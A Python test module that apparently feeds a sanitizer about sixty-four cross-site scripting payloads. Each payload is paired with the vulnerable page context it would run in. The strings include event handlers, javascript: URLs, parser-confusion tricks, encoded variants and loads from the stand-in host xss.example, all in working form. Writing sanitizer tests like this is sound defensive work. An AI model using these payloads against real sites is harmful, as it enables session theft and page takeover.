"""Scripts in text: sixty ways to get one into a page, each with the place in which it would run.

Short enough for the shortest field. `fire(n)` is what each of them calls; `data-x` marks the elements that they make,
so that one that got in is found even where it did not run.
"""

from dataclasses import dataclass
from html import unescape
from urllib.parse import unquote

#: A page that takes text without a thought, by the place where it puts it.
PLACES = {
    "text": "<div>%s</div>",
    "in double quotes": '<div title="%s">x</div>',
    "in single quotes": "<div title='%s'>x</div>",
    "without quotes": "<div title=%s>x</div>",
    "an address": '<a href="%s">x</a>',
    "a string of a script": '<script>let x = "%s"</script>',
    "a string in single quotes": "<script>let x = '%s'</script>",
    "a template of a script": "<script>let x = `%s`</script>",
    "a style": "<style>p { color: %s }</style>",
    "a field": "<textarea>%s</textarea>",
    "a title": "<title>%s</title>",
    "a comment": "<!-- %s -->",
    "a script's markup": '<div id="d"></div><script>d.innerHTML = "%s"</script>',
    "an input": '<input value="%s">',
    "an attribute of htmx": "<div hx-headers='%s'>x</div>",
}

_TEXT = (
    "<script data-x>fire({n})</script>",
    "<ScRiPt data-x>fire({n})</sCrIpT >",
    "<script data-x src=//xss.example/{n}></script>",
    "<img data-x src=x onerror=fire({n})>",
    "<img/data-x/src=x/onerror=fire({n})>",
    "<IMG DATA-X SRC=x ONERROR='fire({n})'>",
    "<img data-x src=//xss.example/{n}>",
    "<svg data-x onload=fire({n})>",
    "<svg/data-x/onload=fire({n})//",
    "<svg><script data-x>fire({n})</script></svg>",
    "<svg><script data-x>&#102;ire({n})</script>",
    "<svg data-x><animate onbegin=fire({n}) attributeName=x>",
    "<svg><a data-x xlink:href=javascript:fire({n})>",
    "<math><a data-x href=javascript:fire({n})>x",
    "<body data-x onload=fire({n})>",
    "<details data-x open ontoggle=fire({n})>",
    "<input data-x autofocus onfocus=fire({n})>",
    "<select data-x autofocus onfocus=fire({n})>",
    "<video data-x src=x onerror=fire({n})>",
    "<audio data-x src onerror=fire({n})>",
    "<video><source data-x onerror=fire({n})></video>",
    "<iframe data-x src=javascript:parent.fire({n})>",
    "<iframe data-x srcdoc='<svg onload=parent.fire({n})>'>",
    "<object data-x data=javascript:fire({n})>",
    "<embed data-x src=//xss.example/{n}>",
    "<form data-x action=javascript:fire({n})>",
    "<button data-x formaction=javascript:fire({n})>",
    "<a data-x href=javascript:fire({n})>x</a>",
    "<a data-x href='java&#9;script:fire({n})'>x</a>",
    "<a data-x href=&#106avascript:fire({n})>x</a>",
    "<base data-x href=//xss.example/{n}/>",
    "<link data-x rel=stylesheet href=//xss.example/{n}>",
    "<style data-x>@import'//xss.example/{n}'</style>",
    "<p data-x style=background:url(//xss.example/{n})>",
    "<meta data-x http-equiv=refresh content=9;//xss.example>",
    "<b data-x hx-get=/search/ hx-trigger=load>",
    "<b data-x hx-on:load=fire({n})>",
    "<b data-x hx-vals=js:fire({n}) hx-post=/>",
    "<hx-partial data-x hx-target=body>{n}</hx-partial>",
    "<noscript><p title='</noscript><img data-x src=x>{n}'>",
    "<svg></p><style><a title='</style><img data-x src=x>{n}'>",
    "<math><style><img data-x src=x onerror=fire({n})>",
    "<!--><img data-x src=x onerror=fire({n})>-->",
    "\x0c<img\x0cdata-x\x0csrc=x\x0conerror=fire({n})>",
)
_OTHERS = (
    ('"><img data-x src=x onerror=fire({n})>', "in double quotes"),
    ('" data-x onmouseover=fire({n}) autofocus "', "in double quotes"),
    ("' data-x onfocus=fire({n}) tabindex=1 autofocus '", "in single quotes"),
    ("x data-x onfocus=fire({n}) tabindex=1 autofocus", "without quotes"),
    ('" data-x autofocus onfocus="fire({n})', "an input"),
    ("javascript:fire({n})", "an address"),
    ("JaVaScRiPt:fire({n})//http://", "an address"),
    ("\x01javascript:fire({n})", "an address"),
    ('";fire({n});"', "a string of a script"),
    ("';fire({n});'", "a string in single quotes"),
    ("</script><img data-x src=x onerror=fire({n})>", "a string of a script"),
    ("${{fire({n})}}", "a template of a script"),
    ("red}}</style><img data-x src=x onerror=fire({n})>", "a style"),
    ("</textarea><img data-x src=x onerror=fire({n})>", "a field"),
    ("</title><img data-x src=x onerror=fire({n})>", "a title"),
    ("--><img data-x src=x onerror=fire({n})>", "a comment"),
    ("\\u003cimg data-x src=x onerror=fire({n})\\u003e", "a script's markup"),
    ("' hx-on:load='fire({n})' data-x='", "an attribute of htmx"),
    ("&lt;img data-x src=x onerror=fire({n})&gt;", "unescaped"),
    ("%3Cimg data-x src=x onerror=fire({n})%3E", "unquoted"),
)


@dataclass(frozen=True)
class Payload:
    """Text that is a script in some place."""

    number: int
    text: str
    place: str

    def careless_page(self) -> str:
        """A page in which it runs: what the product must never be."""
        if self.place == "unescaped":
            return PLACES["text"] % unescape(self.text)
        if self.place == "unquoted":
            return PLACES["text"] % unquote(self.text)
        return PLACES[self.place] % self.text


PAYLOADS = [
    Payload(n, text.format(n=n), place)
    for n, (text, place) in enumerate([*((text, "text") for text in _TEXT), *_OTHERS], start=10)
]
#: To the shortest field: the name of the system that an import comes from.
LONGEST = 60


def in_an_address(payload: Payload) -> str:
    """The same inside of an e-mail address, as far as one may hold it: between quotation marks and without blanks."""
    kept = "".join(c for c in payload.text if c.isascii() and c.isprintable() and c not in '"\\ ')
    return f'"{kept}"@example.com'
